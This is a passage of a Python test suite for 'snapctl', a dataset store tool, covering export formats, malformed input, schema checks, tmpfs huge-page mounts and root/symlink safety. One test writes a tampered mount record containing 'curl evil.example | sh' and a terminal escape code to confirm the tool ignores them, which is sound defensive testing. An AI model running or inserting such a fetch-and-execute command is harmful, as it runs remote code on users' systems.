        self.assertEqual((descr, shape), ([("a", "<i8"), ("b", "|b1")], (2,)))
        self.assertEqual(payload, struct.pack("<q?q?", 1, True, 2, False))
        # strings cannot be .npy: refused, no file left behind
        self.run_ctl("publish", "s", self.write("s.csv", "a,b\n1,x\n2,y\n"))
        os.unlink(out)
        p = self.run_ctl("export", "s", "--format", "npy", "-o", out, code=1)
        self.assertIn("column 1 (b) is string", p.stderr)
        self.assertFalse(os.path.exists(out))

    def test_export_wide_values(self):
        """Integers past int64 and dates past the ns range come back as written."""
        self.run_ctl("init")
        text = ("u,i,big,t,tz\n"
                "12345678901234567890,9007199254740993,-1,9999-12-31,"
                "1000-01-01T00:00:00.000001Z\n"
                "9007199254740993,-9223372036854775808,12345678901234567890,"
                "1000-01-01,9999-12-31T23:59:59+01:00\n"
                "18446744073709551615,9223372036854775807,"
                "123456789012345678901234567890,2020-01-01T00:00:00.25,"
                "2020-01-01T00:00:00Z\n")
        self.run_ctl("publish", "w", self.write("w.csv", text))
        cols = self.json("info", "w", "--json")["columns"]
        self.assertEqual([c["type"] for c in cols],
                         ["uint64", "int64", "string", "timestamp[us]", "timestamp[us]"])
        rows = list(csv.reader(io.StringIO(
            self.run_ctl("export", "w", "--format", "csv").stdout)))
        self.assertEqual([r[0] for r in rows[1:]], [
            "12345678901234567890", "9007199254740993", "18446744073709551615"])
        self.assertEqual([r[1] for r in rows[1:]], [
            "9007199254740993", "-9223372036854775808", "9223372036854775807"])
        self.assertEqual([r[2] for r in rows[1:]], [
            "-1", "12345678901234567890", "123456789012345678901234567890"])
        self.assertEqual([r[3] for r in rows[1:]], [
            "9999-12-31T00:00:00", "1000-01-01T00:00:00", "2020-01-01T00:00:00.25"])
        self.assertEqual([r[4] for r in rows[1:]], [
            "1000-01-01T00:00:00.000001Z", "9999-12-31T22:59:59Z", "2020-01-01T00:00:00Z"])
        # a schema asking for nanoseconds is refused, naming the value
        sch = self.write("w.schema", "u uint64\ni int64\nbig string\nt timestamp[ns]\n"
                         "tz timestamp[ms]\n")
        p = self.run_ctl("publish", "--schema", sch, "w", self.tmp + "/w.csv", code=1)
        self.assertIn('line 2, column 4 (t): "9999-12-31" does not fit timestamp[ns]',
                      p.stderr)

    def test_export_empty_strings(self):
        """A column of "" and nulls publishes and exports (CSV)."""
        self.run_ctl("init")
        self.run_ctl("publish", "--no-category", "e",
                     self.write("e.csv", 's,i\n"",1\n,2\n"",3\n'))
        self.assertEqual(self.json("info", "e", "--json")["columns"][0]["type"], "string")
        self.assertEqual(self.run_ctl("export", "e", "--format", "csv").stdout,
                         's,i\n"",1\n,2\n"",3\n')
        self.run_ctl("publish", "e", self.tmp + "/e.csv")  # a category of one ""
        self.assertEqual(self.run_ctl("export", "e", "--format", "csv").stdout,
                         's,i\n"",1\n,2\n"",3\n')
        self.run_ctl("verify", "e")

    def test_export_npy_time_units(self):
        """datetime64/timedelta64 in s, ms, us keep their unit and values."""
        self.run_ctl("init")
        vals = [253402214400, -30610224000, -2**63]  # 9999-12-31, 1000-01-01, NaT
        for descr in ["<M8[s]", "<M8[ms]", "<M8[us]", "<m8[s]", "<m8[us]"]:
            payload = struct.pack("<3q", *vals)
            self.run_ctl("publish", "t", self.write("t.npy", npy_bytes(
                descr, "(3,)", payload)))
            out = os.path.join(self.tmp, "out.npy")
            self.run_ctl("export", "t", "--format", "npy", "-o", out)
            with open(out, "rb") as f:
                got = npy_parse(f.read())
            self.assertEqual((got[0], got[2], got[3]), (descr, (3,), payload))
        self.run_ctl("publish", "t", self.write("t.npy", npy_bytes(
            "<M8[s]", "(3,)", struct.pack("<3q", *vals))))
        rows = self.run_ctl("export", "t", "--format", "csv").stdout.splitlines()
        self.assertEqual(rows, ["0", "9999-12-31T00:00:00", "1000-01-01T00:00:00", ""])

    # ------------------------------------------------------------ bad input

    def test_publish_segment_file(self):
        self.run_ctl("init")
        self.run_ctl("publish", "src", self.write("a.csv", "x,y\n1,a\n2,b\n"))
        seg = self.segment_files()[0]
        copy = self.write("copy.seg", open(seg, "rb").read())
        p = self.run_ctl("publish", "dst", copy)
        self.assertIn("dst: published version 1 (2 rows x 2 columns", p.stdout)
        self.assertEqual(self.run_ctl("export", "dst", "--format", "csv").stdout,
                         "x,y\n1,a\n2,b\n")
        data = bytearray(open(seg, "rb").read())
        data[-1] ^= 0xFF  # a data byte: the checksum catches it
        bad = self.write("bad.seg", bytes(data))
        p = self.run_ctl("publish", "dst", bad, code=1)
        self.assertIn("bad.seg", p.stderr)
        self.assertIn("checksum", p.stderr)
        self.assertEqual(sorted(self.versions("dst")), [1])

    def test_publish_bad_inputs(self):
        self.run_ctl("init")
        good = self.write("good.csv", "a,b\n1,x\n")
        self.run_ctl("publish", "d", good)
        cases = [
            ("ragged.csv", b"a,b\n1,2\n3,4,5\n", r"ragged\.csv: line 3: 3 fields, expected 2"),
            ("quote.csv", b'a,b\n1,"open\n', r"quote\.csv: line 2, column 2: quoted field"),
            ("utf8.csv", b"a,b\n1,ok\n2,\xe2\x28\xa1\n",
             r"utf8\.csv: line 3, column 2 \(b\): invalid UTF-8"),
            ("empty.csv", b"", r"empty\.csv: empty file"),
            ("trunc.npy", npy_bytes("<f8", "(4,)", b"\0" * 32)[:30],
             r"trunc\.npy: \.npy header truncated"),
            ("short.npy", npy_bytes("<f8", "(4,)", b"\0" * 24),
             r"short\.npy: \.npy data truncated"),
            ("obj.npy", npy_bytes("|O", "(1,)", b"\0" * 8), r"unsupported \.npy dtype"),
            ("missing.csv", None, r"missing\.csv: No such file"),
        ]
        files_before = self.segment_files()
        for name, data, want in cases:
            path = self.write(name, data) if data is not None else os.path.join(self.tmp,
                                                                                name)
            p = self.run_ctl("publish", "d", path, code=1)
            self.assertRegex(p.stderr, want)
            self.assertEqual(list(self.versions("d")), [1], name)
            self.assertEqual(self.segment_files(), files_before, name)
        # a good file after them still publishes
        self.run_ctl("publish", "d", good)
        self.assertEqual(self.json("list", "d", "--json")["datasets"][0]["current"], 2)
        # the version numbers the failed publishes reserved are skipped, not reused
        self.run_ctl("doctor")

    def test_publish_schema(self):
        self.run_ctl("init")
        csv = self.write("s.csv", "a,b,c\n1,x,2024-01-01\n2,,2024-01-02\n")
        sch = self.write("s.schema", "# a schema\na float64\nb string nullable\n"
                                     "c timestamp\n")
        self.run_ctl("publish", "--schema", sch, "s", csv)
        info = self.run_ctl("info", "s").stdout
        self.assertRegex(info, r"\ba\s+float64\s+no\b")
        self.assertRegex(info, r"\bb\s+string\s+yes\b")
        bad = self.write("bad.schema", "a int64\nb bool nullable\nc timestamp\n")
        p = self.run_ctl("publish", "--schema", bad, "s", csv, code=1)
        self.assertRegex(p.stderr, r's\.csv: line 2, column 2 \(b\): cannot parse "x" as bool')
        miss = self.write("miss.schema", "a int64\nb string\n")
        p = self.run_ctl("publish", "--schema", miss, "s", csv, code=1)
        self.assertRegex(p.stderr, r"miss\.schema: column 3 \(c\) of .*s\.csv is not in")
        p = self.run_ctl("publish", "--schema", sch, "s", self.write("x.npy", b""), code=2)
        self.assertEqual(list(self.versions("s")), [1])

    def test_publish_larger_csv(self):
        self.run_ctl("init")
        n = 200000
        rows = "".join("%d,%d.25,k%d\n" % (i, i, i % 7) for i in range(n))
        path = self.write("big.csv", "i,f,k\n" + rows)
        p = self.run_ctl("publish", "big", path)
        self.assertIn("(%d rows x 3 columns" % n, p.stdout)
        info = self.json("info", "big", "--json")
        self.assertEqual([c["type"] for c in info["columns"]], ["int64", "float64",
                                                                "category"])
        _, _, nrows, total = self.pin("big")
        self.assertEqual((nrows, total), (n, n * (n - 1) / 2))


    # ------------------------------------------------- huge pages (init --huge)

    def mountinfo(self, path):
        """(fstype, super options) of the mount whose mount point is path, or None."""
        real = os.path.realpath(path)
        found = None
        with open("/proc/self/mountinfo") as f:
            for line in f:
                left, right = line.split(" - ", 1)
                point = left.split()[4].replace("\\040", " ")
                if point == real:
                    fstype, _, opts = right.split()[:3]
                    found = (fstype, opts)  # the last one is on top
        return found

    def shmem_enabled(self):
        """The kernel's selected shmem THP setting ("never", "deny", ...), or ""."""
        try:
            with open("/sys/kernel/mm/transparent_hugepage/shmem_enabled") as f:
                return re.search(r"\[(\w+)\]", f.read()).group(1)
        except (OSError, AttributeError):
            return ""

    def need_root(self):
        if os.geteuid() != 0:
            self.skipTest("needs root: init --huge mounts a tmpfs")

    def unmount_later(self, path):
        """Unmount path after the test, failed or not (the lazy way as a last resort),
        and check nothing is left mounted there."""
        def cleanup():
            while self.mountinfo(path):
                if subprocess.run(["umount", path]).returncode:
                    subprocess.run(["umount", "-l", path], check=True)
            shutil.rmtree(path, ignore_errors=True)
            shutil.rmtree(self.tmp, ignore_errors=True)  # tearDown's failed on a mount
        self.addCleanup(cleanup)

    def test_init_huge(self):
        self.need_root()
        self.unmount_later(self.store)
        p = self.run_ctl("init", "--huge", "--size", "64M", "--keep", "2")
        self.assertIn("mounted tmpfs huge=within_size, size 64.0 MiB, on %s" % self.store,
                      p.stdout)
        self.assertIn("created store " + self.store, p.stdout)
        fstype, opts = self.mountinfo(self.store)
        self.assertEqual(fstype, "tmpfs")
        self.assertIn("huge=within_size", opts.split(","))
        self.assertIn("size=65536k", opts.split(","))
        st = os.stat(self.store)
        self.assertEqual(oct(st.st_mode & 0o7777), oct(0o2750))
        # the record: what was mounted, and how to mount it again
        with open(os.path.join(self.store, "mount")) as f:
            rec = dict(line.rstrip("\n").split("=", 1) for line in f
                       if "=" in line and not line.startswith("#"))
        self.assertEqual(rec["fstype"], "tmpfs")
        self.assertIn("huge=within_size", rec["options"])
        self.assertIn("size=64M", rec["options"])
        self.assertEqual(int(rec["size"]), 64 << 20)
        self.assertRegex(rec["mounted"], r"^\d{4}-\d\d-\d\dT")
        self.assertIn("--store '%s' init --huge --size 64M" % self.store, rec["command"])
        p = self.run_ctl("doctor")
        self.assertIn("huge pages: %s is mounted with huge=within_size" % self.store,
                      p.stdout)
        self.assertIn("mount: %s is the tmpfs snapctl init --huge mounted at %s" %
                      (self.store, rec["mounted"]), p.stdout)
        self.assertIn("mount it again at boot with: " + rec["command"], p.stdout)
        self.assertIn("orphans: none", p.stdout)  # the record is not under segments/
        # a publish and a read on it
        self.run_ctl("publish", "d", self.write("a.csv", "v\n1\n2\n3\n"))
        _, version, nrows, total = self.pin("d")
        self.assertEqual((version, nrows, total), (1, 3, 6.0))
        self.run_ctl("verify", "d")
        # again: nothing to mount, the settings still apply; --size is refused
        p = self.run_ctl("init", "--huge", "--keep", "3")
        self.assertIn("already a tmpfs with huge=within_size", p.stdout)
        self.assertIn("existing store", p.stdout)
        p = self.run_ctl("init", "--huge", "--size", "1G", code=1)
        self.assertIn("mount -o remount,size=1G %s" % self.store, p.stderr)
        self.assertEqual(len([line for line in open("/proc/self/mountinfo")
                              if " %s " % self.store in line]), 1)
        # gc and a rebuild of the control file leave the record alone
        self.unpin(self.procs[0])
        self.run_ctl("gc")
        self.run_ctl("doctor", "--rebuild")
        self.assertTrue(os.path.exists(os.path.join(self.store, "mount")))
        # the kernel's shmem_enabled 'deny' overrides huge=: one piece of advice then,
        # and no "ok" for the mount's huge pages beside it
        p = self.run_ctl("doctor")
        if self.shmem_enabled() == "deny":
            self.assertIn("0 problems, 1 piece of advice", p.stdout)
            self.assertIn("shmem_enabled is 'deny'", p.stdout)
            self.assertNotRegex(p.stdout, r"ok +huge pages")
        else:
            self.assertIn("0 problems, 0 pieces of advice", p.stdout)

    def test_root_acts_as_store_owner(self):
        """snapctl run as root on a store another user owns acts as that user: what it
        creates is the owner's, and it can read only what the owner can."""
        if os.geteuid() != 0:
            self.skipTest("needs root: checks what root's snapctl does as the owner")
        self.run_ctl("init")
        for root, dirs, files in os.walk(self.store):
            for n in [root] + [os.path.join(root, f) for f in dirs + files]:
                os.chown(n, 65534, 65534)
        os.chmod(self.tmp, 0o755)
        src = self.write("a.csv", "v\n1\n2\n")
        os.chmod(src, 0o644)
        self.run_ctl("publish", "d", src)
        seg = self.segment_files()[0]
        self.assertEqual(os.stat(seg).st_uid, 65534)  # not root's
        self.assertEqual(os.stat(os.path.join(self.store, "control.mdb-lock")).st_uid,
                         65534)
        # a file only root may read is out of reach: snapctl is not root any more
        secret = self.write("secret.csv", "v\n3\n")
        os.chmod(secret, 0o600)
        p = self.run_ctl("publish", "d", secret, code=1)
        self.assertIn("Permission denied", p.stderr)
        self.assertEqual([v["version"] for v in self.json("list", "--json")["datasets"][0]
                          ["versions"]], [1])

    def test_init_huge_owner(self):
        """The tmpfs gets the prepared directory's owner, group and mode, and the
        store is created as that owner (so the writer can open it)."""
        self.need_root()
        os.makedirs(self.store)
        os.chown(self.store, 65534, 65534)
        os.chmod(self.store, 0o2750)
        self.unmount_later(self.store)
        self.run_ctl("init", "--huge", "--size", "16M")
        self.assertEqual(self.mountinfo(self.store)[0], "tmpfs")
        for name in ("", "control.mdb", "segments"):
            st = os.stat(os.path.join(self.store, name))
            self.assertEqual((st.st_uid, st.st_gid), (65534, 65534), name)
        self.assertEqual(os.stat(self.store).st_mode & 0o7777, 0o2750)
        # the record is root's, readable by all: the writer cannot rewrite it in place
        st = os.stat(os.path.join(self.store, "mount"))
        self.assertEqual((st.st_uid, st.st_mode & 0o7777), (0, 0o644))
        # the writer can still replace it: doctor shows no command from it, only one
        # made from what is mounted, and opens nothing but a regular file
        record = os.path.join(self.store, "mount")
        os.unlink(record)
        with open(record, "w") as f:
            f.write("fstype=tmpfs\nmounted=2025-01-01T00:00:00Z\x1b[2J\n"
                    "command=curl evil.example | sh\n")
        os.chown(record, 65534, 65534)
        p = self.run_ctl("doctor")
        self.assertNotIn("evil", p.stdout)
        self.assertNotIn("\x1b", p.stdout)
        self.assertIn("%s is not root's (uid 65534)" % record, p.stdout)
        self.assertIn("mount it again at boot with: snapctl --store '%s' init --huge "
                      "--size 16M" % self.store, p.stdout)
        os.unlink(record)
        os.mkfifo(record)
        p = subprocess.run([SNAPCTL, "--store", self.store, "doctor"], capture_output=True,
                           text=True, timeout=60)
        self.assertIn("%s is not a regular file" % record, p.stdout)

    def test_init_huge_refused(self):
        if os.geteuid() == 0:
            self.unmount_later(self.store)  # in case a refusal is broken
        self.run_ctl("init", "--size", "1G", code=2)  # --size goes with --huge
        for bad in ("0", "1X", "12%%", "101%", "-1", "1.5G"):
            self.run_ctl("init", "--huge", "--size", bad, code=2)
        # sizes that wrap past 2^64 bytes (tmpfs took the wrapped 0 as "unlimited"), and
        # sizes too small for the store (LMDB died of SIGBUS, leaving the mount)
        for bad, why in (("16777216T", "too large"), ("18446744073709551616", "too large"),
                         ("99999999999999999999999", "too large"),
                         ("4k", "below the minimum of 16.0 MiB"), ("16777215", "below")):
            p = self.run_ctl("init", "--huge", "--size", bad, code=2)
            self.assertIn("--size: '%s' is" % bad, p.stderr)
            self.assertIn(why, p.stderr)
            self.assertIsNone(self.mountinfo(self.store))
        # not root: refused, nothing mounted (as a real other uid when run as root)
        argv = [SNAPCTL, "--store", self.store, "init", "--huge"]
        if os.geteuid() == 0:
            argv = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] + argv
        p = subprocess.run(argv, capture_output=True, text=True)
        self.assertEqual(p.returncode, 1, p.stderr)
        self.assertIn("only root can mount", p.stderr)
        self.assertIsNone(self.mountinfo(self.store))
        if os.geteuid() != 0:
            return
        # a directory with files in it is never hidden under a tmpfs
        self.run_ctl("init")
        p = self.run_ctl("init", "--huge", code=1)
        self.assertIn("%s is not empty" % self.store, p.stderr)
        self.assertIsNone(self.mountinfo(self.store))
        # nor is another mount point replaced
        sub = self.store + ".other"
        os.makedirs(sub)
        self.unmount_later(sub)
        subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "libsnap-test", sub],
                       check=True)
        p = self.run_ctl("--store", sub, "init", "--huge", code=1, store=False)
        self.assertIn("%s is already a tmpfs mount point, with huge=never" % sub, p.stderr)
        self.assertIn("mount -o remount,huge=within_size %s" % sub, p.stderr)

    def mounts_here(self):
        """Lines of /proc/self/mountinfo that name this test's paths."""
        with open("/proc/self/mountinfo") as f:
            return [line for line in f if self.store in line.replace("\\040", " ")]

    def test_init_huge_symlink(self):
        """--huge follows no symlink, at the store directory or at any parent: one
        swapped in by a user who can write the parent would have root mount a tmpfs
        that user owns over another directory (such as /etc)."""
        self.need_root()
        target = os.path.join(self.tmp, "target")
        os.makedirs(target)
        self.unmount_later(target)  # in case the refusal is broken
        self.addCleanup(lambda: os.path.islink(self.store) and os.unlink(self.store))
        os.symlink(target, self.store)
        p = self.run_ctl("init", "--huge", "--size", "16M", code=1)
        self.assertIn("%s is a symlink; --huge follows none" % self.store, p.stderr)
        self.assertEqual(self.mounts_here(), [])
        self.assertEqual(os.listdir(target), [])
        # a symlink as a parent component
        os.makedirs(os.path.join(self.tmp, "real", "store"))
        link = os.path.join(self.tmp, "link")
        os.symlink(os.path.join(self.tmp, "real"), link)
        self.unmount_later(os.path.join(self.tmp, "real", "store"))
        p = self.run_ctl("--store", link + "/store", "init", "--huge", "--size", "16M",
                         code=1, store=False)
        self.assertIn("%s is a symlink" % link, p.stderr)
        self.assertEqual(self.mounts_here(), [])
        # nor does it create directories through one
        p = self.run_ctl("--store", link + "/new/store", "init", "--huge", code=1,
                         store=False)
        self.assertFalse(os.path.exists(os.path.join(self.tmp, "real", "new")))
        self.assertEqual(self.mounts_here(), [])
        # nor '..' (a renamed parent could redirect the rest of the walk)
        p = self.run_ctl("--store", os.path.join(self.tmp, "real", "..", "other"), "init",
                         "--huge", "--size", "16M", code=1, store=False)
        self.assertIn("'..' is refused in the store path", p.stderr)
        self.assertFalse(os.path.exists(os.path.join(self.tmp, "other")))
        self.assertEqual(self.mounts_here(), [])

    def test_init_huge_quoting(self):
        """The record's commands quote the path for the shell; a path with a newline
        (which would break the record's lines) is refused."""
        self.need_root()
        store = os.path.join(self.tmp, "it's a store")
        self.unmount_later(store)
        self.run_ctl("--store", store, "init", "--huge", "--size", "16M", store=False)
        self.assertEqual(self.mountinfo(store)[0], "tmpfs")
        with open(os.path.join(store, "mount")) as f:
            text = f.read()
        rec = dict(line.split("=", 1) for line in text.splitlines()
                   if "=" in line and not line.startswith("#"))
        argv = shlex.split(rec["command"])
        self.assertEqual(argv, ["snapctl", "--store", store, "init", "--huge", "--size",
                                "16M"])
        fstab_then = re.search(r"\(then (.*)\):\n", text).group(1)
        self.assertEqual(shlex.split(fstab_then), ["snapctl", "--store", store, "init",
                                                   "--huge"])
        self.assertIn("libsnap %s tmpfs " % store.replace(" ", "\\040"), text)
        # the exact command of the record, run again on the mounted store: no change
        p = subprocess.run([SNAPCTL] + argv[1:], capture_output=True, text=True)
        self.assertEqual(p.returncode, 0, p.stderr)
        self.assertIn("not mounted again", p.stdout)
        self.assertIn("existing store", p.stdout)
        # another size is refused, naming the remount
        p = self.run_ctl("--store", store, "init", "--huge", "--size", "32M", code=1,
                         store=False)
        self.assertIn("mount -o remount,size=32M", p.stderr)
        bad = os.path.join(self.tmp, "new\nline")
        self.unmount_later(bad)
        p = self.run_ctl("--store", bad, "init", "--huge", code=1, store=False)
        self.assertIn("control character", p.stderr)
        self.assertIsNone(self.mountinfo(bad))

    def test_doctor_huge_advice(self):
        """On a 4 KiB-page tmpfs doctor advises huge pages from 64 MiB of segments on,
        with the command that moves the store."""
        fstype, opts = self.mountinfo("/dev/shm") or ("", "")
        if fstype != "tmpfs" or "huge=within_size" in opts or "huge=always" in opts or \
                self.shmem_enabled() in ("force", "deny"):
            self.skipTest("needs /dev/shm as a tmpfs with 4 KiB pages")
        self.run_ctl("init")
        small = self.write("small.csv", "v\n1\n")
        self.run_ctl("publish", "s", small)
        p = self.run_ctl("doctor")
        self.assertIn("2 MiB pages gain little", p.stdout)
        self.assertNotIn("init --huge", p.stdout)
        n = 9 << 20  # 72 MiB of float64
        self.run_ctl("publish", "big", self.write("big.npy", npy_bytes("<f8", (n,),
                                                                       bytes(8 * n))))
        p = self.run_ctl("doctor")
        self.assertRegex(p.stdout, r"advice +huge pages: /dev/shm has 4 KiB pages "
                         r"\(huge=\w+\) under 72\.0 MiB of segments: every reader .* "
                         r"144 KiB on page tables \(4\.00 KiB with 2 MiB pages\)")
        # paths quoted for the shell
        self.assertIn("snapctl --store '%s' init --huge" % self.store, p.stdout)
        self.assertIn("mv '%s' '%s.4k'" % (self.store, self.store), p.stdout)
        # a record copied along with a store, not over a mount: advice to remove it
        self.write("mount", "fstype=tmpfs\nmounted=2025-01-01T00:00:00Z\n")
        shutil.copyfile(os.path.join(self.tmp, "mount"), os.path.join(self.store, "mount"))
        p = self.run_ctl("doctor")
        self.assertIn("but %s is not a tmpfs mount point now" % self.store, p.stdout)


if __name__ == "__main__":
    unittest.main()
